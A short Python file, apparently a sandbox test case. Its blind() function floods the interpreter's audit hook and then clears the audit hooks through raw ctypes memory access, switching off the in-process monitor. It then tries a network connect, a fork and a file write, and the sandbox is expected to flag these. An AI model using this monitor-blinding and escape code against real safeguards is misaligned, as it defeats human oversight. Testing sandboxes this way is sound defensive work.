"""Blind the in-process monitor (flood the audit hook past its cap, then clear the
interpreter's audit hooks through ctypes), then try what the sandbox denies: the job must not
end ok with no violation."""
import ctypes
import os
import socket


def blind():
    for i in range(600):
        compile("%d" % i, "<flood>", "eval")
    api = ctypes.pythonapi
    api.PyInterpreterState_Get.restype = ctypes.c_void_p
    base = api.PyInterpreterState_Get()
    libc = ctypes.CDLL(None, use_errno=True)
    r, w = os.pipe()

    def peek(addr):
        if libc.write(w, ctypes.c_void_p(addr), 8) != 8:
            return None
        return int.from_bytes(os.read(r, 8), "little")

    for off in range(0, 1 << 17, 8):
        p = peek(base + off)
        if p is None:
            return None
        if p < 65536 or p % 8 or peek(p + 8) != id(list):
            continue
        hooks = ctypes.cast(p, ctypes.py_object).value
        if hooks and all(getattr(h, "__name__", "") == "hook" for h in hooks):
            hooks.clear()
            return off
    return None


def attack(ctx):
    tried = [blind()]
    try:
        socket.socket().connect(("127.0.0.1", ctx["port"]))
        tried.append("connected")
    except OSError as exc:
        tried.append(repr(exc))
    try:
        pid = os.fork()
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)
        tried.append("forked")
    except OSError as exc:
        tried.append(repr(exc))
    try:
        open(ctx["markers"]["tmp"], "w").write("x")
    except OSError as exc:
        tried.append(repr(exc))
    return tried
